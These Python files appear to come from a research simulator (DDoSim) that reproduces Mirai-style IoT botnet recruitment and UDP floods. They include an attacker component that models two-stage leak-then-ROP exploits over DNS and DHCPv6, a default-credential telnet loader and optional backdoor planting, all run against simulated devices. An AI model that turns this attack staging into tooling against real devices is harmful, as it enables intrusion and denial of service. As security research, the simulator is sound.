        """One JSON object per sample, keys in schema order."""
        lines = [
            json.dumps({name: getattr(sample, name) for name in SAMPLE_FIELDS})
            for sample in self.samples
        ]
        return "\n".join(lines) + ("\n" if lines else "")


class TelemetrySampler:
    """Samples a DDoSim's metrics registry on a fixed simulated cadence.

    Attach *before* ``run()``::

        ddosim = DDoSim(config)
        telemetry = TelemetrySampler(ddosim, interval=5.0)
        result = ddosim.run()
        print(telemetry.series.infection_curve())
    """

    def __init__(self, ddosim, interval: float = 5.0,
                 until: Optional[float] = None):
        if interval <= 0:
            raise ValueError("sampling interval must be positive")
        self.ddosim = ddosim
        self.interval = interval
        self.until = until if until is not None else ddosim.config.sim_duration
        self.series = TelemetrySeries(interval=interval)
        self._last_rx_bytes = 0
        self._first_sample = True
        ddosim.sim.schedule(0.0, self._sample)

    def _sample(self) -> None:
        sim = self.ddosim.sim
        registry = self.ddosim.obs.metrics
        values = {name: registry.value(name) for name in _SAMPLED_METRICS}
        rx_total = int(values["tserver_rx_bytes_total"])
        if self._first_sample:
            # No interval has elapsed yet at t=0: a rate computed against
            # the zero baseline would fabricate traffic that never flowed.
            rate_kbps = 0.0
            self._first_sample = False
        else:
            rate_kbps = (
                (rx_total - self._last_rx_bytes) * 8.0 / 1000.0 / self.interval
            )
        self._last_rx_bytes = rx_total
        self.series.samples.append(
            TelemetrySample(
                time=sim.now,
                bots_connected=int(values["bots_connected"]),
                devs_online=int(values["devs_online"]),
                distinct_recruits=int(values["distinct_recruits"]),
                tserver_rx_bytes_total=rx_total,
                received_rate_kbps=rate_kbps,
                container_memory_bytes=int(values["container_memory_bytes"]),
                queue_drops_total=int(values["queue_drops_total"]),
            )
        )
        if sim.now + self.interval <= self.until:
            sim.schedule(self.interval, self._sample)
