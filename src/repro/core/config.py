"""Experiment configuration for DDoSim runs.

Defaults follow the paper's experiment series (§III-D, §IV-A): 100–500
kbps Dev links ("an average range for such devices in real life"), a
600-second NS-3 simulation window, 100-second UDP-PLAIN attacks, Mirai's
512-byte flood payload, and Fan et al.'s churn coefficients
(φ1, φ2, φ3) = (0.16, 0.08, 0.04).
"""

from __future__ import annotations

from dataclasses import dataclass
from typing import Optional, Sequence, Tuple

CHURN_NONE = "none"
CHURN_STATIC = "static"
CHURN_DYNAMIC = "dynamic"
CHURN_MODES = (CHURN_NONE, CHURN_STATIC, CHURN_DYNAMIC)

BINARY_CONNMAN = "connman"
BINARY_DNSMASQ = "dnsmasq"
BINARY_MIXED = "mixed"
BINARY_MIXES = (BINARY_CONNMAN, BINARY_DNSMASQ, BINARY_MIXED)

VECTOR_MEMORY_ERROR = "memory_error"
VECTOR_CREDENTIALS = "credentials"
VECTOR_BOTH = "both"
RECRUITMENT_VECTORS = (VECTOR_MEMORY_ERROR, VECTOR_CREDENTIALS, VECTOR_BOTH)

#: protection profiles Devs draw from ("some subset of W^X and ASLR",
#: §III-B) — uniformly over the four subsets by default
DEFAULT_PROTECTION_PROFILES: Tuple[Tuple[str, ...], ...] = (
    (),
    ("wx",),
    ("aslr",),
    ("wx", "aslr"),
)


@dataclass
class SimulationConfig:
    """Everything one DDoSim run needs; every field has a paper-aligned
    default so ``SimulationConfig(n_devs=50)`` is a valid experiment."""

    n_devs: int = 10
    seed: int = 1

    # --- Devs ----------------------------------------------------------
    binary_mix: str = BINARY_MIXED
    protection_profiles: Sequence[Tuple[str, ...]] = DEFAULT_PROTECTION_PROFILES
    #: IoT access-link rate range in kbps (drawn uniformly per Dev)
    dev_rate_kbps: Tuple[float, float] = (100.0, 500.0)
    dev_link_delay: float = 0.020
    #: also run telnetd/dropbear on Devs (Mirai fortification targets)
    extra_services: bool = True
    #: Dev emulation mode: lightweight "container" (the paper's choice,
    #: for scalability) or Firmadyne-style full "firmware" emulation
    #: (§III-B's heavier alternative)
    dev_emulation: str = "container"

    # --- Attacker ------------------------------------------------------
    attacker_rate_bps: float = 100e6
    attacker_link_delay: float = 0.005
    dns_query_interval: float = 10.0
    dhcp6_attack_interval: float = 5.0
    #: vendor-hardened Devs whose shell lacks curl (defense insight #1)
    devs_without_curl: bool = False
    #: infection script also plants backdoor credentials on each Dev
    #: ("modify passwords and activate telnet/ssh", §II-A)
    plant_backdoor: bool = False
    #: how the attacker recruits: the paper's memory-error exploits, the
    #: classic Mirai default-credential dictionary (the baseline it is
    #: contrasted with), or both at once
    recruitment_vector: str = "memory_error"
    #: fraction of Devs shipping factory-default telnet credentials when
    #: a credential vector is in play (the rest have strong passwords)
    weak_credential_fraction: float = 0.6

    # --- TServer -------------------------------------------------------
    #: the DDoS bottleneck: TServer's access link (bits/second).  At the
    #: paper's 100-500 kbps Dev links, 150 Devs offer ~45 Mbps, so 30 Mbps
    #: puts Figure 2's upper range deep in congestion (sublinear growth)
    #: without flat-lining the whole curve.
    tserver_rate_bps: float = 30e6
    tserver_link_delay: float = 0.005
    #: UDP port the flood targets (sink is promiscuous regardless)
    attack_port: int = 7777

    # --- Attack --------------------------------------------------------
    attack_duration: float = 100.0
    attack_payload_size: int = 512
    #: give up waiting for stragglers and attack after this many seconds
    recruit_timeout: float = 60.0
    #: pause between recruitment completing and the attack command —
    #: models the paper's long pre-attack phase inside its 600 s window
    #: (churn keeps acting during it, so dynamically-departed bots can
    #: miss the command, the paper's dynamic<static mechanism)
    attack_settle_delay: float = 30.0
    #: settle time after the attack before the run ends
    cooldown: float = 10.0
    #: NS-3-style overall simulation cap (the paper uses 600 s)
    sim_duration: float = 600.0

    # --- Churn (Fan et al.) --------------------------------------------
    churn: str = CHURN_NONE
    churn_interval: float = 20.0
    churn_phi: Tuple[float, float, float] = (0.16, 0.08, 0.04)
    #: chance an offline device rejoins at each dynamic-churn epoch
    churn_rejoin_probability: float = 0.5

    # --- Faults --------------------------------------------------------
    #: optional :class:`repro.faults.FaultPlan` (or its dict form) armed
    #: against the run; ``None`` is the exact no-injector path
    faults: Optional[object] = None

    # --- Network plumbing ----------------------------------------------
    queue_packets: int = 100

    # --- Engine performance knobs --------------------------------------
    #: event scheduler: "heap" (binary heap, default) or "calendar"
    #: (NS-3-style calendar queue) — identical results, different speed
    scheduler: str = "heap"
    #: flood packet-train size: each bot wakeup emits this many packets
    #: as one scheduled unit (1 = exact per-packet seed behaviour)
    flood_train: int = 1
    #: fluid-flow crossover: "off" (exact packet/train datapath), "auto"
    #: (fluid upstream, packet-exact at the bottleneck/sink last hop) or
    #: "all" (fully analytic flood, zero per-packet events)
    flood_flow: str = "off"

    def __post_init__(self) -> None:
        if self.n_devs <= 0:
            raise ValueError("n_devs must be positive")
        if self.churn not in CHURN_MODES:
            raise ValueError(f"churn must be one of {CHURN_MODES}, got {self.churn!r}")
        if self.binary_mix not in BINARY_MIXES:
            raise ValueError(
                f"binary_mix must be one of {BINARY_MIXES}, got {self.binary_mix!r}"
            )
        low, high = self.dev_rate_kbps
        if not 0 < low <= high:
            raise ValueError(f"bad dev_rate_kbps range {self.dev_rate_kbps}")
        if self.attack_duration <= 0:
            raise ValueError("attack_duration must be positive")
        if len(self.churn_phi) != 3:
            raise ValueError("churn_phi needs exactly three coefficients")
        if not all(0.0 <= phi <= 1.0 for phi in self.churn_phi):
            raise ValueError("churn_phi coefficients must lie in [0, 1]")
        if self.recruitment_vector not in RECRUITMENT_VECTORS:
            raise ValueError(
                f"recruitment_vector must be one of {RECRUITMENT_VECTORS}, "
                f"got {self.recruitment_vector!r}"
            )
        if not 0.0 <= self.weak_credential_fraction <= 1.0:
            raise ValueError("weak_credential_fraction outside [0, 1]")
        if self.dev_emulation not in ("container", "firmware"):
            raise ValueError(
                f"dev_emulation must be 'container' or 'firmware', "
                f"got {self.dev_emulation!r}"
            )
        if self.faults is not None:
            from repro.faults import FaultPlan

            if isinstance(self.faults, dict):
                self.faults = FaultPlan.from_dict(self.faults)
            elif not isinstance(self.faults, FaultPlan):
                raise ValueError(
                    f"faults must be a FaultPlan or dict, got {type(self.faults).__name__}"
                )
        from repro.netsim.scheduler import SCHEDULER_NAMES

        if self.scheduler not in SCHEDULER_NAMES:
            raise ValueError(
                f"scheduler must be one of {SCHEDULER_NAMES}, got {self.scheduler!r}"
            )
        if self.flood_train < 1:
            raise ValueError("flood_train must be >= 1")
        from repro.netsim.flows import FLOW_MODES

        if self.flood_flow not in FLOW_MODES:
            raise ValueError(
                f"flood_flow must be one of {FLOW_MODES}, got {self.flood_flow!r}"
            )

    @property
    def mean_dev_rate_bps(self) -> float:
        low, high = self.dev_rate_kbps
        return (low + high) / 2.0 * 1000.0
