"""The Attacker component (paper §II-A / §III-A).

One container, bridged into the simulated Internet via a ghost node,
hosting the four sub-components the paper names:

* **Exploit & Infection Scripts** — the malicious DNS server (Connman
  path) and the DHCPv6 exploit sender (Dnsmasq path), both built on
  :mod:`repro.services.exploits`.  Each runs the two-stage exploit: a
  probe elicits a diagnostic that leaks a code pointer, the leak yields
  the victim's ASLR slide, then the tailored ROP payload goes out.
* **Botnet Malware** — Mirai binaries (one per architecture, Buildx
  style) hosted on the file server.
* **Command & Control Server** — :class:`repro.botnet.cnc.CncServer`,
  reachable for operators via telnet.
* **File Server** — the Apache analogue serving the infection script and
  the Mirai binaries.
"""

from __future__ import annotations

from typing import Dict, Optional

from repro.binaries.binfmt import BinaryImage
from repro.binaries.shell import make_shell_program
from repro.botnet.bot import make_mirai_binary
from repro.botnet.cnc import ADMIN_PORT, CncServer
from repro.container.build import BuildContext, ImageBuilder
from repro.container.runtime import ContainerRuntime
from repro.core.config import SimulationConfig
from repro.netsim.address import ALL_DHCP_RELAY_AGENTS_AND_SERVERS
from repro.netsim.node import Node
from repro.netsim.process import ProcessKilled, SimProcess
from repro.netsim.topology import StarInternet
from repro.services import dhcp6, dns
from repro.services.exploits import (
    ExploitKit,
    InfectionUrls,
    infection_script,
    parse_leaked_pointer,
    slide_from_leak,
)
from repro.services.http import HttpFileServer
from repro.services.telnet import TelnetServer

ATTACKER_DOCKERFILE = """
FROM debian:slim
COPY sh /bin/sh
COPY cnc /usr/sbin/cnc
COPY apache2 /usr/sbin/apache2
COPY telnetd /usr/sbin/telnetd
COPY dnsd /usr/sbin/dnsd
COPY dhcp6x /usr/sbin/dhcp6x
COPY loader /usr/sbin/loader
COPY init /sbin/init
EXPOSE 23/tcp
EXPOSE 80/tcp
EXPOSE 53/udp
ENTRYPOINT ["/sbin/init"]
"""


class AttackerComponent:
    """Builds and runs the Attacker container and its services."""

    def __init__(
        self,
        config: SimulationConfig,
        sim,
        runtime: ContainerRuntime,
        star: StarInternet,
        connman_binary: BinaryImage,
        dnsmasq_binary: BinaryImage,
        architectures=("x86_64",),
    ):
        self.config = config
        self.sim = sim
        self.runtime = runtime
        self.star = star
        self.connman_binary = connman_binary
        self.dnsmasq_binary = dnsmasq_binary
        self.architectures = tuple(architectures)

        self.node = Node(sim, "attacker")
        self.link = star.attach_host(
            self.node, config.attacker_rate_bps, config.attacker_link_delay
        )
        self.address = self.link.ipv6

        self.cnc = CncServer()
        self.telnet = TelnetServer(port=ADMIN_PORT)
        self.telnet.handler = self.cnc.console_handler
        self.file_server = HttpFileServer(root="/var/www")
        self.urls = InfectionUrls(file_server_host=str(self.address))

        self.connman_kit = ExploitKit(connman_binary, self.urls, obs=sim.obs)
        self.dnsmasq_kit = ExploitKit(dnsmasq_binary, self.urls, obs=sim.obs)
        self._exploit_attempts = sim.obs.metrics.counter(
            "exploit_attempts_total",
            help="exploit payloads sent to victims, by vector",
            labels=("vector",),
        )

        # Per-victim exploitation state (address -> slide).
        self.dns_slides: Dict[object, int] = {}
        self.dhcp_slides: Dict[object, int] = {}
        # Counters for RunResult.
        self.dns_probes_sent = 0
        self.dns_exploits_sent = 0
        self.dhcp_probes_sent = 0
        self.dhcp_exploits_sent = 0
        self.leaks_harvested = 0
        #: stop delivering exploits after this many (None = recruit all).
        #: The epidemic use case seeds exactly one infection and lets the
        #: botnet spread itself from there.
        self.max_initial_infections: Optional[int] = None
        #: the dictionary-attack baseline (armed via arm_telnet_loader)
        self.loader_stats = None
        self._loader_params = None

        self.container = None

    # ------------------------------------------------------------------
    # Image + container assembly
    # ------------------------------------------------------------------
    def arm_telnet_loader(self, pool_base: int, first_iid: int,
                          last_iid: int) -> None:
        """Enable the default-credential baseline: a loader that sweeps
        the Devs' address block before :meth:`build` bakes the image."""
        from repro.botnet.loader import LoaderStats

        self.loader_stats = LoaderStats()
        self_iid = self.link.ipv6.value & 0xFFFFFFFF
        self._loader_params = (pool_base, first_iid, last_iid, self_iid)

    def _loader_program(self):
        from repro.botnet.loader import telnet_loader_program
        from repro.services.exploits import infection_command

        if self._loader_params is None:
            def disabled(ctx):
                yield ctx.sleep(0.0)

            return disabled
        pool_base, first_iid, last_iid, self_iid = self._loader_params
        return telnet_loader_program(
            pool_base,
            first_iid,
            last_iid,
            infection_command(self.urls),
            self.loader_stats,
            self_iid=self_iid,
        )

    def build(self) -> None:
        context = BuildContext()
        context.add("sh", b"#!bin/sh\x00", mode=0o755, program=make_shell_program())
        context.add("cnc", b"\x7fcnc\x00", mode=0o755, program=self.cnc.program())
        context.add(
            "apache2", b"\x7fapache\x00", mode=0o755, program=self.file_server.program()
        )
        context.add(
            "telnetd", b"\x7ftelnetd\x00", mode=0o755, program=self.telnet.program()
        )
        context.add("dnsd", b"\x7fdnsd\x00", mode=0o755, program=self._dns_server_program())
        context.add(
            "dhcp6x", b"\x7fdhcp6x\x00", mode=0o755, program=self._dhcp6_attack_program()
        )
        context.add(
            "loader", b"\x7floader\x00", mode=0o755, program=self._loader_program()
        )
        context.add("init", b"#!init\x00", mode=0o755, program=self._init_program())
        builder = ImageBuilder(context)
        image = builder.build(ATTACKER_DOCKERFILE, "attacker")

        # File Server content: infection script + per-arch Mirai binaries.
        script = infection_script(
            self.urls,
            cnc_host=str(self.address),
            cnc_port=self.cnc.bot_port,
            plant_backdoor=self.config.plant_backdoor,
        )
        image.fs.write_file(
            f"/var/www{self.urls.shellscript_path}", script.encode(), mode=0o644
        )
        for architecture in self.architectures:
            mirai = make_mirai_binary(architecture)
            image.fs.write_file(
                f"/var/www{self.urls.mirai_path_prefix}.{architecture}",
                mirai.serialize(),
                mode=0o644,
            )
        self.runtime.add_image(image)
        self.container = self.runtime.create("attacker", name="attacker")
        self.runtime.attach_network(self.container, self.node)

    def start(self) -> None:
        if self.container is None:
            raise RuntimeError("build() the attacker before start()")
        self.runtime.start(self.container)

    # ------------------------------------------------------------------
    # Programs
    # ------------------------------------------------------------------
    def _init_program(self):
        vector = self.config.recruitment_vector

        def init(ctx):
            services = ["/usr/sbin/cnc", "/usr/sbin/apache2", "/usr/sbin/telnetd"]
            if vector in ("memory_error", "both"):
                services += ["/usr/sbin/dnsd", "/usr/sbin/dhcp6x"]
            if vector in ("credentials", "both"):
                services.append("/usr/sbin/loader")
            for path in services:
                ctx.spawn([path])
            yield ctx.sleep(0.0)

        return init

    def _dns_server_program(self):
        """The malicious DNS server (Connman exploitation path).

        Per victim: first query gets a SERVFAIL probe (trips the verbose
        error path -> diagnostic leak), the diagnostic yields the slide,
        and every later query gets the exploit response whose answer
        RDATA is the ROP overflow payload.
        """
        component = self

        def dnsd(ctx):
            sock = ctx.netns.udp_socket(53)
            ctx.bind_port_marker(53)
            ctx.log("dnsd: malicious DNS server on :53")
            try:
                while True:
                    payload, (source, source_port) = yield sock.recvfrom()
                    if payload is None:
                        continue
                    component._handle_dns_datagram(
                        ctx, sock, payload, source, source_port
                    )
            except ProcessKilled:
                raise
            finally:
                ctx.release_port_marker(53)
                sock.close()

        return dnsd

    def _handle_dns_datagram(self, ctx, sock, payload, source, source_port) -> None:
        leaked = parse_leaked_pointer(payload)
        if leaked is not None:
            self.dns_slides[source] = slide_from_leak(self.connman_binary, leaked)
            self.leaks_harvested += 1
            return
        try:
            query = dns.DnsMessage.decode(payload)
        except dns.DnsDecodeError:
            return
        if query.is_response or not query.questions:
            return
        if self._exploit_budget_spent():
            return
        slide = self.dns_slides.get(source)
        if slide is None:
            # Stage 1: probe. SERVFAIL makes the victim report verbosely.
            probe = dns.DnsMessage(
                id=query.id,
                flags=dns.FLAG_QR | dns.RCODE_SERVFAIL,
                questions=list(query.questions),
            )
            sock.sendto(probe.encode(), source, source_port)
            self.dns_probes_sent += 1
            return
        # Stage 2: the exploit response.
        answer = dns.DnsResourceRecord(
            query.questions[0].name,
            dns.TYPE_TXT,
            self.connman_kit.rop_payload(slide),
        )
        response = dns.make_response(query, [answer])
        sock.sendto(response.encode(), source, source_port)
        self.dns_exploits_sent += 1
        self._exploit_attempts.labels("dns").inc()
        tracer = self.sim.obs.tracer
        if tracer.enabled:
            tracer.emit(
                "exploit.attempt", self.sim.now,
                vector="dns", target=str(source), slide=slide,
            )
        spans = self.sim.obs.spans
        if spans.enabled:
            span = spans.start(
                "exploit", self.sim.now, entity=str(source), vector="dns",
                slide=slide, program=self.connman_kit.target.program_key,
            )
            spans.end(span, self.sim.now, status="sent")
            # The victim's hijack report parents its outcome under this.
            spans.bind(("exploit", str(source)), span)

    def _dhcp6_attack_program(self):
        """The DHCPv6 exploit script (Dnsmasq exploitation path).

        Periodically multicasts an INFORMATION-REQUEST probe to
        ``ff02::1:2`` (every listening dnsmasq answers — "there is no
        broadcast address in IPv6", §IV-A); each unicast reply leaks that
        victim's slide, and the tailored RELAY-FORW exploit goes back
        unicast.
        """
        component = self
        interval = self.config.dhcp6_attack_interval

        def dhcp6x(ctx):
            sock = ctx.netns.udp_socket()
            exploited: Dict[object, bool] = {}

            def probe_loop(loop_ctx):
                transaction = 0x51
                while True:
                    probe = dhcp6.Dhcp6Message(
                        dhcp6.MSG_INFORMATION_REQUEST, transaction_id=transaction
                    )
                    sock.sendto(
                        probe.encode(),
                        ALL_DHCP_RELAY_AGENTS_AND_SERVERS,
                        dhcp6.SERVER_PORT,
                    )
                    component.dhcp_probes_sent += 1
                    transaction = (transaction + 1) & 0xFFFFFF
                    yield loop_ctx.sleep(interval)

            prober = SimProcess(ctx.sim, probe_loop(ctx), name="dhcp6x-probe")
            try:
                while True:
                    payload, (source, _source_port) = yield sock.recvfrom()
                    if payload is None:
                        continue
                    slide = component._dhcp_leak_from_reply(payload)
                    if slide is None or exploited.get(source):
                        continue
                    if component._exploit_budget_spent():
                        continue
                    component.dhcp_slides[source] = slide
                    exploit = dhcp6.make_relay_forw(
                        component.dnsmasq_kit.rop_payload(slide),
                        link=source,
                        peer=source,
                    )
                    sock.sendto(exploit.encode(), source, dhcp6.SERVER_PORT)
                    component.dhcp_exploits_sent += 1
                    component._exploit_attempts.labels("dhcp6").inc()
                    tracer = ctx.sim.obs.tracer
                    if tracer.enabled:
                        tracer.emit(
                            "exploit.attempt", ctx.sim.now,
                            vector="dhcp6", target=str(source), slide=slide,
                        )
                    spans = ctx.sim.obs.spans
                    if spans.enabled:
                        span = spans.start(
                            "exploit", ctx.sim.now, entity=str(source),
                            vector="dhcp6", slide=slide,
                            program=component.dnsmasq_kit.target.program_key,
                        )
                        spans.end(span, ctx.sim.now, status="sent")
                        spans.bind(("exploit", str(source)), span)
                    exploited[source] = True
            except ProcessKilled:
                raise
            finally:
                prober.kill()
                sock.close()

        return dhcp6x

    def _dhcp_leak_from_reply(self, payload: bytes) -> Optional[int]:
        try:
            message = dhcp6.Dhcp6Message.decode(payload)
        except dhcp6.Dhcp6DecodeError:
            return None
        if message.msg_type != dhcp6.MSG_REPLY:
            return None
        status = message.option(dhcp6.OPTION_STATUS_CODE)
        if status is None:
            return None
        leaked = parse_leaked_pointer(status.data)
        if leaked is None:
            return None
        self.leaks_harvested += 1
        return slide_from_leak(self.dnsmasq_binary, leaked)

    def _exploit_budget_spent(self) -> bool:
        return (
            self.max_initial_infections is not None
            and self.exploits_delivered >= self.max_initial_infections
        )

    @property
    def exploits_delivered(self) -> int:
        return self.dns_exploits_sent + self.dhcp_exploits_sent
