"""The Devs component (paper §II-B / §III-B): the IoT device fleet.

Each Dev is a container running either the Connman or the Dnsmasq
analogue (a 50/50 random mix by default, like the paper's experiments
use both), built with a per-device protection profile (a random subset
of {W^X, ASLR}), on an access link drawn uniformly from 100–500 kbps.
Optionally each Dev also runs stock telnetd/dropbear services — the
processes Mirai kills on takeover.
"""

from __future__ import annotations

import random
from dataclasses import dataclass
from typing import Dict, List, Tuple

from repro.binaries.busybox import make_dropbear_binary, make_telnetd_binary
from repro.binaries.connman import make_connman_binary
from repro.binaries.dnsmasq import make_dnsmasq_binary
from repro.binaries.logind import DEFAULT_CREDENTIALS, make_login_telnetd_binary
from repro.binaries.shell import make_shell_program
from repro.container.build import BuildContext, ImageBuilder
from repro.container.container import Container
from repro.container.runtime import ContainerRuntime
from repro.core.config import (
    BINARY_CONNMAN,
    BINARY_DNSMASQ,
    VECTOR_MEMORY_ERROR,
    SimulationConfig,
)
from repro.netsim.node import Node
from repro.netsim.topology import HostLink, StarInternet

DEV_DOCKERFILE_TEMPLATE = """
FROM scratch
COPY sh /bin/sh
COPY daemon /usr/sbin/{daemon_name}
{extra_copies}
COPY init /sbin/init
EXPOSE {port}
ENTRYPOINT ["/sbin/init"]
"""


@dataclass
class DevRecord:
    """One simulated IoT device."""

    index: int
    name: str
    kind: str                       # "connman" | "dnsmasq"
    protections: Tuple[str, ...]
    rate_bps: float
    node: Node
    link: HostLink
    container: Container
    #: True when the device ships factory-default telnet credentials
    #: (only meaningful when a credential recruitment vector is in play)
    weak_credentials: bool = False

    @property
    def ipv6(self):
        return self.link.ipv6


def _init_program(daemon_path: str, extra_paths: Tuple[str, ...]):
    """PID-1 for a Dev: start the network daemon + stock services."""

    def init(ctx):
        ctx.spawn([daemon_path])
        for path in extra_paths:
            ctx.spawn([path])
        yield ctx.sleep(0.0)

    return init


class DevFleet:
    """Builds and owns all Dev containers/nodes/links of one run."""

    def __init__(
        self,
        config: SimulationConfig,
        sim,
        runtime: ContainerRuntime,
        star: StarInternet,
        rng: random.Random,
    ):
        self.config = config
        self.sim = sim
        self.runtime = runtime
        self.star = star
        self.rng = rng
        # Credentials draw from their own stream so enabling the
        # credential vector never perturbs fleet composition/rates —
        # cross-vector comparisons run against the identical fleet.
        self._credential_rng = random.Random(f"{config.seed}-credentials")
        #: populated only in firmware emulation mode
        self.qemu_systems: List[object] = []
        self.devs: List[DevRecord] = []
        #: the binary builds the fleet uses (shared per kind; the attacker
        #: analyzes these same builds offline)
        self.connman_binary = make_connman_binary()
        self.dnsmasq_binary = make_dnsmasq_binary()
        self._images: Dict[Tuple[str, Tuple[str, ...]], str] = {}

    # ------------------------------------------------------------------
    # Image building (one per kind x protection profile)
    # ------------------------------------------------------------------
    def _image_for(self, kind: str, protections: Tuple[str, ...]) -> str:
        key = (kind, protections)
        reference = self._images.get(key)
        if reference is not None:
            return reference
        if kind == BINARY_CONNMAN:
            base = self.connman_binary
            binary = make_connman_binary(
                version=base.version,
                protections=protections,
                vulnerable=base.vulnerable,
            )
            daemon_name, port = "connmand", "53/udp"
        else:
            base = self.dnsmasq_binary
            binary = make_dnsmasq_binary(
                version=base.version,
                protections=protections,
                vulnerable=base.vulnerable,
            )
            daemon_name, port = "dnsmasq", "547/udp"
        # Same build (same gadget layout) as the fleet-wide binary; only
        # the protection flags differ per device profile.
        binary.build_seed = base.build_seed

        context = BuildContext()
        allow_curl = not self.config.devs_without_curl
        context.add(
            "sh", b"#!bin/sh\x00", mode=0o755,
            program=make_shell_program(allow_curl=allow_curl),
        )
        context.add("daemon", binary.serialize(), mode=0o755)
        extra_paths: Tuple[str, ...] = ()
        extra_copies = ""
        if self.config.extra_services:
            # With a credential vector in play, the telnet service is the
            # full login daemon (the classic Mirai attack surface);
            # otherwise the plain banner service suffices.
            if self.config.recruitment_vector == VECTOR_MEMORY_ERROR:
                telnetd = make_telnetd_binary()
            else:
                telnetd = make_login_telnetd_binary()
            context.add("telnetd", telnetd.serialize(), mode=0o755)
            context.add("dropbear", make_dropbear_binary().serialize(), mode=0o755)
            extra_copies = (
                "COPY telnetd /usr/sbin/telnetd\n"
                "COPY dropbear /usr/sbin/dropbear"
            )
            extra_paths = ("/usr/sbin/telnetd", "/usr/sbin/dropbear")
        context.add(
            "init", b"#!init\x00", mode=0o755,
            program=_init_program(f"/usr/sbin/{daemon_name}", extra_paths),
        )
        dockerfile = DEV_DOCKERFILE_TEMPLATE.format(
            daemon_name=daemon_name, port=port, extra_copies=extra_copies
        )
        protections_tag = "-".join(protections) if protections else "none"
        image = ImageBuilder(context).build(
            dockerfile, f"devs-{kind}", tag=protections_tag
        )
        self.runtime.add_image(image)
        self._images[key] = image.reference
        return image.reference

    # ------------------------------------------------------------------
    # Firmware (Firmadyne/QEMU) emulation mode
    # ------------------------------------------------------------------
    def _build_firmware_dev(self, kind: str, protections: Tuple[str, ...],
                            name: str, node: Node) -> Container:
        from repro.firmware.image import build_firmware
        from repro.firmware.qemu import QemuSystem

        base = (
            self.connman_binary if kind == BINARY_CONNMAN else self.dnsmasq_binary
        )
        firmware = build_firmware(
            kind, protections=protections, vulnerable=base.vulnerable
        )
        system = QemuSystem(self.runtime, firmware, name, node)
        self.qemu_systems.append(system)
        return system.container

    # ------------------------------------------------------------------
    # Fleet assembly
    # ------------------------------------------------------------------
    def _pick_kind(self, index: int) -> str:
        if self.config.binary_mix == BINARY_CONNMAN:
            return BINARY_CONNMAN
        if self.config.binary_mix == BINARY_DNSMASQ:
            return BINARY_DNSMASQ
        return BINARY_CONNMAN if self.rng.random() < 0.5 else BINARY_DNSMASQ

    def build(self, attacker_address) -> None:
        """Create every Dev: image, container, ghost node, access link."""
        low_kbps, high_kbps = self.config.dev_rate_kbps
        for index in range(self.config.n_devs):
            kind = self._pick_kind(index)
            protections = tuple(self.rng.choice(self.config.protection_profiles))
            rate_bps = self.rng.uniform(low_kbps, high_kbps) * 1000.0
            name = f"dev{index:03d}"
            node = Node(self.sim, name)
            link = self.star.attach_host(
                node,
                rate_bps,
                self.config.dev_link_delay,
                queue_packets=self.config.queue_packets,
                dhcp6_multicast_member=(kind == BINARY_DNSMASQ),
            )
            if self.config.dev_emulation == "firmware":
                container = self._build_firmware_dev(kind, protections, name, node)
            else:
                reference = self._image_for(kind, protections)
                container = self.runtime.create(reference, name=name)
            container.env["DNS_SERVER"] = str(attacker_address)
            container.env["QUERY_INTERVAL"] = str(self.config.dns_query_interval)
            weak_credentials = False
            if self.config.recruitment_vector != VECTOR_MEMORY_ERROR:
                credential_rng = self._credential_rng
                weak_credentials = (
                    credential_rng.random() < self.config.weak_credential_fraction
                )
                if weak_credentials:
                    user, password = credential_rng.choice(DEFAULT_CREDENTIALS)
                else:
                    user = "admin"
                    password = f"S3cure-{credential_rng.getrandbits(40):010x}"
                container.env["TELNET_USER"] = user
                container.env["TELNET_PASS"] = password
            if container.netns is None:  # firmware mode attaches itself
                self.runtime.attach_network(container, node)
            self.devs.append(
                DevRecord(
                    index=index,
                    name=name,
                    kind=kind,
                    protections=protections,
                    rate_bps=rate_bps,
                    node=node,
                    link=link,
                    container=container,
                    weak_credentials=weak_credentials,
                )
            )

    def start_all(self) -> None:
        for dev in self.devs:
            self.runtime.start(dev.container)

    # ------------------------------------------------------------------
    # Lookups used by the framework
    # ------------------------------------------------------------------
    def set_device_online(self, index: int, online: bool) -> None:
        """Churn hook: toggle one Dev's access link."""
        self.devs[index].link.set_up(online)

    def kind_by_address(self) -> Dict[object, str]:
        return {dev.ipv6: dev.kind for dev in self.devs}

    def online_count(self) -> int:
        return sum(1 for dev in self.devs if dev.link.up)

    def weak_credential_count(self) -> int:
        return sum(1 for dev in self.devs if dev.weak_credentials)

    def iid_range(self) -> Tuple[int, int, int]:
        """(pool_base, first_iid, last_iid) of the fleet's IPv6 block —
        what address-sweeping attack tooling needs."""
        if not self.devs:
            raise RuntimeError("fleet not built yet")
        iids = [dev.ipv6.value & 0xFFFFFFFF for dev in self.devs]
        base = self.devs[0].ipv6.value & ~((1 << 64) - 1)
        return base, min(iids), max(iids)

    def checkpoint_state(self) -> dict:
        """Deterministic fleet state (composition + per-dev link/attack
        progress) for checkpoint fingerprints."""
        offered_bytes, offered_packets = self.total_offered_attack()
        return {
            "online": self.online_count(),
            "offered_bytes": offered_bytes,
            "offered_packets": offered_packets,
            "devs": [
                [dev.index, dev.name, dev.kind, dev.rate_bps,
                 dev.weak_credentials, dev.link.up, dev.container.state]
                for dev in self.devs
            ],
        }

    def total_offered_attack(self) -> Tuple[int, int]:
        """(bytes, packets) actually emitted by all bots' floods."""
        total_bytes = 0
        total_packets = 0
        for dev in self.devs:
            for process in dev.container.processes.values():
                for stats in getattr(process, "attack_stats", ()):
                    total_bytes += stats.bytes_sent
                    total_packets += stats.packets_sent
        return total_bytes, total_packets
