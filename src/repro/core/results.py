"""Result records for DDoSim runs."""

from __future__ import annotations

from dataclasses import dataclass, field
from typing import Dict, List, Optional

from repro.core.resources import ResourceReport


@dataclass
class RecruitmentStats:
    """Research questions R1/R2: who got recruited, and how."""

    devs_total: int = 0
    devs_online_at_start: int = 0
    bots_recruited: int = 0
    bots_at_attack: int = 0
    exploits_delivered: int = 0
    leaks_harvested: int = 0
    first_bot_time: Optional[float] = None
    last_bot_time: Optional[float] = None
    #: recruited count per binary kind ("connman"/"dnsmasq")
    by_binary: Dict[str, int] = field(default_factory=dict)

    @property
    def infection_rate(self) -> float:
        """Fraction of reachable Devs recruited (the paper reports 100%)."""
        if self.devs_online_at_start == 0:
            return 0.0
        return self.bots_recruited / self.devs_online_at_start


@dataclass
class AttackStatsSummary:
    """Research question R3: what the flood did to TServer."""

    issued_at: float = 0.0
    duration: float = 0.0
    bots_commanded: int = 0
    avg_received_kbps: float = 0.0
    peak_received_kbps: float = 0.0
    offered_kbps: float = 0.0
    offered_bytes: int = 0
    offered_packets: int = 0
    received_bytes: int = 0
